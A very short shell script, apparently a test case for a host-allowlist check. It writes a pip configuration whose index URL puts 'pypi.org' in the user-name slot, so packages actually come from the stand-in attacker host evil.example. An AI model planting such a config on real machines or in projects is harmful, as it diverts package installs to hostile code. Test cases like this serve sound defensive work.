#!/bin/sh
# The allowed host stands where a user name belongs.
mkdir -p /etc
cat >/etc/pip.conf <<'EOF'
[global]
index-url = https://pypi.org@evil.example/simple
EOF
